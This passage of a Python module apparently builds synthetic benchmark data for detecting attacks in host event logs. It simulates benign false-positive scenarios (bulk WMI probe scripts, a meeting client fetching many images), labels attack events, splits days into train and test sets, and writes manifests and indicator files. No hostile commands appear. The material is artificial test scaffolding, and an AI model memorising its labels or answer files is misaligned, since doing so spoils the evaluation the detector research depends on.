    return f"Get-CimInstance -ClassName {cls} -Filter \"DeviceID like '%{i:04d}%'\" | ConvertTo-Json"


def sparse(b: DayBuilder) -> dict:
    """One service host running a large batch of hardware-probe scripts."""
    services = b.persistent("services")
    proc = b.process(b.archetypes["svchost"].path, "svchost.exe -k HwInventory -s HwCollect")
    ts = b.when(0.3, 0.5)
    b.emit(ts, services, A.EXEC, proc)
    n = b.rng.randint(20, 40) if b.train else b.rng.randint(1000, 1300)
    picks = b.rng.sample(range(SCRIPT_POOL), n)
    for i in picks:
        ts += b.rng.randint(10**6, 10**8)
        b.emit(ts, proc, A.RUN_SCRIPT, b.script(collector_script(i)))
        if b.rng.random() < 0.1:
            b.emit(ts + 1, proc, A.READ, b.file(r"C:\Windows\System32\wbem\Repository\OBJECTS.DATA"))
    return {"kind": "sparse", "day": b.day, "script_runs": n}


def unknown(b: DayBuilder) -> dict:
    """A meeting client never seen in training that fetches many images."""
    if b.train:
        return {"kind": "unknown", "day": b.day, "images": 0}
    exe = r"C:\Users\alice\AppData\Local\Microsoft\Teams\current\Teams.exe"
    explorer = b.persistent("explorer")
    images = 0
    for _ in range(b.rng.randint(1, 2)):
        ts = b.when(0.3, 0.7)
        proc = b.process(exe, "Teams.exe --system-initiated")
        b.emit(ts, explorer, A.EXEC, proc)
        hosts = [f"img{j}.meetcdn.example" for j in range(b.rng.randint(6, 10))]
        for _ in range(b.rng.randint(150, 300)):
            ts += b.rng.randint(10**6, 10**8)
            conn = b.conn(domain=b.rng.choice(hosts), port=443)
            b.emit(ts, proc, A.CONNECT, conn)
            b.emit(ts + 1, proc, A.RECV, conn)
            name = rf"C:\Users\alice\AppData\Roaming\Microsoft\Teams\Backgrounds\Uploads\img_{b.unique()}.jpg"
            b.emit(ts + 2, proc, A.WRITE, b.file(name))
            images += 1
    return {"kind": "unknown", "day": b.day, "images": images}


def semantic_change(b: DayBuilder) -> dict:
    # the renaming itself happens inside DayBuilder through ``drift``
    return {"kind": "semantic_change", "day": b.day, "drift": round(b.drift, 4)}


FP_TEMPLATES = {"sparse": sparse, "unknown": unknown, "semantic_change": semantic_change}


# --- scenario assembly ---------------------------------------------------------------------


@dataclass
class DayTrace:
    day: int
    role: str                    # train | test
    events: list[Event]

    @property
    def name(self) -> str:
        return f"{self.role}_{self.day:02d}"


@dataclass
class Scenario:
    spec: ScenarioSpec
    days: list[DayTrace]
    iocs: IocSet
    manifest: dict = field(default_factory=dict)

    @property
    def train(self) -> list[DayTrace]:
        return [d for d in self.days if d.role == "train"]

    @property
    def test(self) -> list[DayTrace]:
        return [d for d in self.days if d.role == "test"]


def simulate_day(spec: ScenarioSpec, day: int, catalog: Catalog | None = None) -> tuple[DayTrace, dict]:
    catalog = catalog or load_catalog()
    iocs = iocs_for(spec)
    b = DayBuilder(spec, day, catalog, iocs)
    info: dict = {"day": day, "role": "train" if b.train else "test", "attacks": [], "fp_archetypes": []}
    attack_events = 0
    for name in spec.active_attacks:
        template = TEMPLATES[name]
        if b.train:
            runs_today = name == "info_stealing" and spec.pre_deployment
        else:
            runs_today = day >= spec.effective_attack_day
        if not runs_today:
            continue
        if name == "info_stealing" and spec.pre_deployment:
            first = day == 0
        else:
            first = day == spec.effective_attack_day
        record: list = []
        cmdlines: list = []
        b.label_attacks = not b.train
        before = len(b._items)
        template(b, first, record, cmdlines)
        b.label_attacks = True
        attack_events += len(b._items) - before
        info["attacks"].append({"template": name, "labelled": not b.train, "steps": record,
                                "cmdlines": cmdlines})
    for name in spec.fp_archetypes:
        info["fp_archetypes"].append(FP_TEMPLATES[name](b))
    background(b, max(0, spec.scale - len(b._items)))
    events = b.events()
    info["events"] = len(events)
    info["malicious_events"] = sum(e.malicious for e in events)
    info["attack_events"] = attack_events
    return DayTrace(day, info["role"], events), info


def simulate(spec: ScenarioSpec, catalog: Catalog | None = None) -> Scenario:
    catalog = catalog or load_catalog()
    days, infos = [], []
    for day in range(spec.train_days + spec.days):
        trace, info = simulate_day(spec, day, catalog)
        days.append(trace)
        infos.append(info)
    iocs = iocs_for(spec)
    manifest = {
        "catalog_version": catalog.version,
        "spec": spec.to_json(),
        "iocs": iocs.to_json(),
        "days": infos,
    }
    return Scenario(spec, days, iocs, manifest)


@dataclass(frozen=True)
class Generated:
    paths: dict[str, str]
    iocs: IocSet
    manifest_path: str


def generate(spec: ScenarioSpec, out_dir: str | os.PathLike, compress: bool = False) -> Generated:
    """Write one trace file per day plus ``manifest.json`` and ``iocs.json``."""
    os.makedirs(out_dir, exist_ok=True)
    scenario = simulate(spec)
    paths = {}
    suffix = ".jsonl.gz" if compress else ".jsonl"
    for trace, info in zip(scenario.days, scenario.manifest["days"]):
        path = os.path.join(out_dir, trace.name + suffix)
        write_trace(path, trace.events)
        paths[trace.name] = path
        info["file"] = os.path.basename(path)
    manifest_path = os.path.join(out_dir, "manifest.json")
    with open(manifest_path, "w") as fh:
        json.dump(scenario.manifest, fh, indent=2, sort_keys=True)
        fh.write("\n")
    with open(os.path.join(out_dir, "iocs.json"), "w") as fh:
        json.dump(scenario.iocs.to_json(), fh, indent=2, sort_keys=True)
        fh.write("\n")
    return Generated(paths, scenario.iocs, manifest_path)


def load_iocs(path: str | os.PathLike) -> IocSet:
    with open(path) as fh:
        data = json.load(fh)
    return IocSet(**{k: frozenset(v) for k, v in data.items()})
